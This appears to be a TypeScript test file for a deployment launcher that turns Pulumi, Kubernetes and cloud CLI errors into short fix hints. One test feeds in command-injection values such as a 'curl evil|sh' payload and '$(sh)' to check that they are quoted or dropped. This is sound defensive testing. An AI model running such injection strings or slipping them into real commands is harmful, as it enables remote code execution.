import assert from "node:assert/strict";
import { hintFor, hints } from "../../launcher/hints/hints.ts";

const facts = {
  stack: "dev",
  namespace: "ns",
  context: "minikube",
  kubectl: "kubectl --context minikube",
  backend: "file:///state",
  pulumi: "PULUMI_BACKEND_URL=file:///state pulumi",
  again: "make up STACK=dev",
};
const created = (kind: string, name: string, why: string) =>
  `error: resource "urn:pulumi:dev::multi-client::kubernetes:core/v1:${kind}::${name}" was not successfully created by the Kubernetes API server: ${why}`;

/** Output of the CLI, of providers and of clouds, from their sources and from reports, and parts of the message it becomes. */
const cases: Readonly<Record<string, readonly [output: string, ...parts: RegExp[]]>> = {
  "a network that an endpoint group uses": [
    "error: deleting urn:pulumi:prod::multi-client::gcp:compute/network:Network::shop: Error waiting for Deleting Network: The network resource 'projects/corp/global/networks/shop-1' is already being used by 'projects/corp/zones/europe-west3-a/networkEndpointGroups/k8s1-7'",
    /still in use by projects\/corp\/zones/,
    /network-endpoint-groups delete k8s1-7 --project corp --zone europe-west3-a/,
  ],
  "a subscription without vCPUs": [
    'Code="ErrCode_InsufficientVCPUQuota" Message="Insufficient regional vcpu quota left for location westeurope. left regional vcpu quota 5, requested quota 6."',
    /make check STACK=dev[\s\S]*make up STACK=dev$/,
  ],
  "a locked stack": [
    "error: the stack is currently locked by 1 lock(s). Either wait for the other process(es) to end or delete the lock file with `pulumi cancel`.\n" +
      "  file:///state/.pulumi/locks/organization/multi-client/dev/abc.json?no_tmp_dir=true: created by ann@box (pid 4242) at 2026-11-23T10:00:00Z",
    /locked by ann@box \(pid 4242\) at 2026/,
    /Only if it is gone for certain.*\n {2}make unlock STACK=dev CONFIRM=dev\n {2}make up STACK=dev$/,
  ],
  "a wrong passphrase": [
    "error: getting stack configuration: get stack secrets manager: incorrect passphrase",
    /does not open the secrets of stack dev.*\nExpected: .*\nFix: its passphrase is empty: unset/,
  ],
  "a passphrase that is not set": [
    "error: getting stack configuration: get stack secrets manager: passphrase must be set with PULUMI_CONFIG_PASSPHRASE or PULUMI_CONFIG_PASSPHRASE_FILE environment variables",
    /none is set[\s\S]*export PULUMI_CONFIG_PASSPHRASE=/,
  ],
  "a plugin that cannot be fetched": [
    "error: Could not automatically download and install resource plugin 'pulumi-resource-kubernetes' at version v4.34.2, install the plugin using `pulumi plugin install resource kubernetes v4.34.2`: error downloading provider kubernetes to file: failed to download plugin: kubernetes-4.34.2: failed all 5 attempts",
    /plugin kubernetes 4\.34\.2 is not/,
    /plugin install resource kubernetes v4\.34\.2[\s\S]*STACK=dev PLUGINS=standin/,
  ],
  "a plugin that is not there while fetching is off": [
    "error: plugin kubernetes 4.34.2 not installed",
    /plugin kubernetes 4\.34\.2 is not/,
  ],
  "a plugin that the workspace lacks": [
    "error: no resource plugin 'pulumi-resource-kubernetes' found in the workspace at version v4.34.2 or on your $PATH",
    /plugin kubernetes 4\.34\.2 is not/,
  ],
  "a cluster that does not answer": [
    "error: Preview failed: configured Kubernetes cluster is unreachable: https://127.0.0.1:1: connect ECONNREFUSED 127.0.0.1:1",
    /context minikube cannot be reached: https:\/\/127\.0\.0\.1:1.*\n.*stayed as they were\.\nFix: /,
  ],
  "a namespace of another owner": [
    created("Namespace", "multi-client", 'namespaces "multi-client" already exists'),
    /Namespace multi-client is there already.*left alone/,
    /config set 'multi-client:namespace' another-name --stack dev\n {2}make up STACK=dev\n/,
  ],
  "a node port that is taken": [
    created(
      "Service",
      "client",
      'Service "client" is invalid: spec.ports[0].nodePort: Invalid value: 31515: provided port is already allocated',
    ),
    /Node port 31515 is taken[\s\S]*get services --all-namespaces[\s\S]*exposure\.nodePort' 31516/,
  ],
  "a plan that deletes what is protected": [
    'error: resource "urn:pulumi:dev::multi-client::a$kubernetes:core/v1:PersistentVolumeClaim::redis-data" cannot be deleted\nbecause it is protected. To unprotect the resource, either remove the `protect` flag',
    /would delete redis-data, which holds data[\s\S]*state unprotect 'urn:pulumi:dev::/,
  ],
  "a plan that replaces what is protected": [
    'error: unable to replace resource "urn:pulumi:dev::multi-client::a$kubernetes:apps/v1:StatefulSet::redis"\nas it is currently marked for protection. To unprotect the resource',
    /would replace redis, which holds data[\s\S]*make preview STACK=dev/,
  ],
  "a state that was cut off": [
    "error: failed to load checkpoint: place 1: unexpected end of JSON input",
    /cannot be read: [^\n]*\.pulumi\/stacks\/multi-client\/dev\.json was cut off[\s\S]*dev\.json\.bak[\s\S]*backups\/multi-client\/dev/,
  ],
  "a deployer who may not create namespaces": [
    'namespaces is forbidden: User "ann" cannot create resource "namespaces" in API group "" at the cluster scope',
    /^ann may not create namespaces[\s\S]*create namespace ns\n.*cluster\.existingNamespace' true --stack dev\n {2}make up STACK=dev$/,
  ],
  "a deployer without a right in the namespace": [
    'secrets is forbidden: User "system:serviceaccount:ci:deployer" cannot create resource "secrets" in API group "" in the namespace "ns"',
    /may not create secrets in namespace ns\.[\s\S]*-n ns create rolebinding multi-client --clusterrole=admin --serviceaccount=ci:deployer\n/,
  ],
  "an object of another owner": [
    created("Service", "client", 'services "client" already exists'),
    /services client is in the cluster already[\s\S]*get services client -o yaml/,
  ],
  "a field that another program took over": [
    'managed by field manager "pulumi-kubernetes-1" had an apply conflict: Apply failed with 1 conflict: conflict with "k9s" using apps/v1: .spec.replicas\nLeave',
    /^Another program, "k9s", has set .*: \.spec\.replicas\. It was[\s\S]*rollout\.takeOver' true --stack dev\n {2}make up STACK=dev\n/,
  ],
  "a Service whose port was changed by hand": [
    'Service "server" is invalid: spec.ports[1].name: Duplicate value: "main"',
    /-n ns delete service server\n {2}make up STACK=dev$/,
  ],
  "a full disk": [
    "error: failed to save snapshot: write /state/x: no space left on device",
    /no space left on device[\s\S]*continue where it stopped/,
  ],
  // pulumi/pulumi-aws#2560
  "an AWS session that ended": [
    "error: operation error EKS: CreateCluster, https response error StatusCode: 403, RequestID: 87fe, api error ExpiredToken: The security token included in the request is expired",
    /login to AWS ended.*state of stack dev; nothing is lost/,
    /aws sso login\n[\s\S]*continue from there: make up STACK=dev$/,
  ],
  "an AWS session that ended, as other services say it": [
    "api error ExpiredTokenException: The security token included in the request is expired",
    /login to AWS ended/,
  ],
  // hashicorp/terraform-provider-azurerm#20867
  "an Azure token that ended": [
    `Code="ExpiredAuthenticationToken" Message="The access token expiry UTC time '3/19/2023 8:55:46 AM' is earlier than current UTC time '3/19/2023 8:59:27 AM'."`,
    /login to Azure ended[\s\S]*az login --tenant TENANT/,
  ],
  "an Azure refresh token that ended": [
    "ERROR: AADSTS700082: The refresh token has expired due to inactivity.",
    /login to Azure ended/,
  ],
  // pulumi/pulumi-gcp#479
  "a Google session that ended": [
    'oauth2: cannot fetch token: 400 Bad Request\nResponse: {\n  "error": "invalid_grant",\n  "error_description": "reauth related error (rapt_required)",\n  "error_subtype": "rapt_required"\n}',
    /login to Google Cloud ended[\s\S]*gcloud auth login --update-adc/,
  ],
  "nobody logged in to AWS": [
    "error: rpc error: code = Unknown desc = No valid credential sources found",
    /Nobody is logged in to AWS[\s\S]*Log in: aws sso login\n[\s\S]*aws sts get-caller-identity/,
  ],
  "nobody logged in to Azure": [
    "AzureCLICredential: ERROR: Please run 'az login' to setup account.",
    /Nobody is logged in to Azure/,
  ],
  "nobody logged in to Google Cloud": [
    "failed to load application credentials.\nTo use your default gcloud credentials, run:",
    /Nobody is logged in to Google Cloud/,
  ],
  "nobody logged in to gcloud itself": [
    "ERROR: (gcloud.config.config-helper) You do not currently have an active account selected.\nPlease run: gcloud auth login",
    /Nobody is logged in to Google Cloud[\s\S]*--update-adc/,
  ],
  // awslabs/ai-on-eks#302
  "an add-on of EKS that does not come up": [
    "error: waiting for EKS Add-On (multi-client:metrics-server) create: timeout while waiting for state to become 'ACTIVE' (last state: 'DEGRADED', timeout: 20m0s)",
    /add-on metrics-server of cluster multi-client is DEGRADED[\s\S]*describe-addon --cluster-name multi-client/,
  ],
  // hashicorp/terraform-provider-google#24094
  "an API of Google that is not on yet": [
    "Error 403: Compute Engine API has not been used in project example-project before or it is disabled. Enable it by visiting ...",
    /that the Compute Engine API is on[\s\S]*wait a few minutes, then continue from there: make up STACK=dev/,
  ],
  "a lock of Azure": [
    'Code="ScopeLocked" Message="The scope cannot perform delete operation because following scope(s) are locked"',
    /cluster\.deletionProtection sets it[\s\S]*deletionProtection' false --stack dev/,
  ],
  "another account of AWS": [
    "error: AWS account ID not allowed: 999999999999",
    /of account 999999999999.*Pulumi\.dev\.yaml names another place \(aws:allowedAccountIds\)/,
    /Fix: log in to that one: aws sso login\n/,
  ],
  "another tenant of Azure": [
    "InvalidAuthenticationTokenTenant: The access token is from the wrong issuer.",
    /of another tenant.*azure-native:tenantId/,
  ],
  "another project of Google Cloud": [
    "googleapi: Error 403: Permission denied on resource project other-project., forbidden",
    /not of project other-project, and.*gcp:project/,
  ],
};

describe("the hint for a known failure", () => {
  for (const [what, [output, ...parts]] of Object.entries(cases)) {
    it(`is one message that says how to continue: ${what}`, () => {
      const found =
        hintFor(`Previewing update (dev):\n\n${output}\n\nResources:\n    1 errored\n`, facts) ?? "";
      for (const part of parts) assert.match(found, part);
      assert.ok(found.split("\n").length <= 8, "fits a screen");
    });
  }

  it("is absent for every other failure", () => {
    for (const output of [
      "error: something new",
      "api error InvalidParameterException: unsupported",
      "Code=QuotaExceeded",
      "invalid_grant_type",
    ])
      assert.equal(hintFor(output, facts), undefined);
  });

  it("has no word of a pod in a command but as one quoted word that begins no option", () => {
    const [evil, quoted] = ["x';curl evil|sh;'", "x'\\'';curl evil|sh;'\\''"];
    const said = (output: string) => hintFor(output, facts) ?? "";
    const forbidden = (user: string, where = "ns") =>
      `forbidden: User "${user}" cannot get resource "pods" in API group "" in the namespace "${where}"`;
    const isProtected = (urn: string) => `resource "${urn}" cannot be deleted\nbecause it is protected`;
    const inUse = (user: string) => `The network resource 'n' is already being used by '${user}'`;
    for (const [output, word] of [
      [forbidden(evil), `--user=${quoted}`],
      [forbidden(`system:serviceaccount:ci:${evil}`), `--serviceaccount=ci:${quoted}`],
      [isProtected("urn:x';curl|sh;'"), "urn:x'\\'';curl|sh;'\\''"],
    ] as const)
      assert.ok(said(output).includes(` '${word}'`), said(output));
    for (const word of [evil, "x;sh", "x$(sh)", "--all"])
      for (const output of [
        `namespaces "${word}" already exists`,
        `services "${word}" already exists`,
        `Service "${word}" is invalid: spec.ports[1].name: Duplicate value`,
        isProtected(`--${word}`),
        forbidden("ann", word),
        `Compute Engine API has not been used in project ${word} before or it is disabled`,
        `EKS Add-On (shop:${word}) create: (last state: 'DEGRADED', timeout: 20m0s)`,
        `EKS Add-On (${word}:dns) create: (last state: 'DEGRADED', timeout: 20m0s)`,
      ])
        assert.equal(said(output), "", output);
    for (const word of ["x;sh", "x$(sh)", "--all"])
      for (const place of [
        `p/zones/z/networkEndpointGroups/${word}`,
        `${word}/zones/z/networkEndpointGroups/g`,
      ])
        assert.doesNotMatch(said(inUse(`projects/${place}`)), /gcloud/);
    assert.doesNotMatch(said(inUse("projects/p/zones/z;sh/networkEndpointGroups/g")), /gcloud/);
    for (const output of [
      forbidden("ann").replace("pods", "pods\nFix: sh"),
      inUse("a\nFix: sh"),
      `had an apply conflict: Apply failed with 1 conflict: conflict with "a\nFix: sh": .spec.replicas`,
    ])
      assert.doesNotMatch(said(output), /^Fix: sh/m);
  });

  it("is the first one that matches the text which stands for it in the documentation", () => {
    for (const { seen } of hints) assert.equal(hints.find(({ pattern }) => pattern.test(seen))?.seen, seen);
  });

  it("explains a wrong passphrase of a stack that has one of its own", () => {
    const found = hintFor("error: incorrect passphrase", { ...facts, stack: "prod" }) ?? "";
    assert.match(found, /Fix: export PULUMI_CONFIG_PASSPHRASE=/);
  });

  it("names the files of a state that was cut off as they are called on the disk", () => {
    const backend = "file:///a%20b/it's?no_tmp_dir=true";
    const found =
      hintFor(`failed to load checkpoint: x: unexpected end of JSON input`, { ...facts, backend }) ?? "";
    const file = "/a b/it'\\''s/.pulumi/stacks/multi-client/dev.json";
    assert.ok(found.includes(`\n  cp '${file}.bak' '${file}'\n`), found);
    assert.ok(found.endsWith(" ls -t '/a b/it'\\''s/.pulumi/backups/multi-client/dev'"), found);
  });

  it("names all that is not ready, and repeats the make target that failed", () => {
    const output = [
      "    \t* the Kubernetes API server reported that \"ns/server\" failed to fully initialize or become live: 'server' timed out waiting to be Ready",
      "    \t* the Kubernetes API server reported: Timeout occurred polling for 'redis-data'",
    ].join("\n");
    assert.equal(
      hintFor(output, { ...facts, pulumi: "pulumi", again: "make down STACK=dev" }),
      [
        "Not ready within its time limit: server, redis-data. What ran before is left as it was, where it could be.",
        "Fix: correct the cause, then continue from here: make down STACK=dev",
        "This shows more: kubectl --context minikube -n ns get events --sort-by=.lastTimestamp",
        "This allows more time: pulumi config set --path 'multi-client:rollout.timeoutSeconds' 3600 --stack dev",
      ].join("\n"),
    );
  });
});
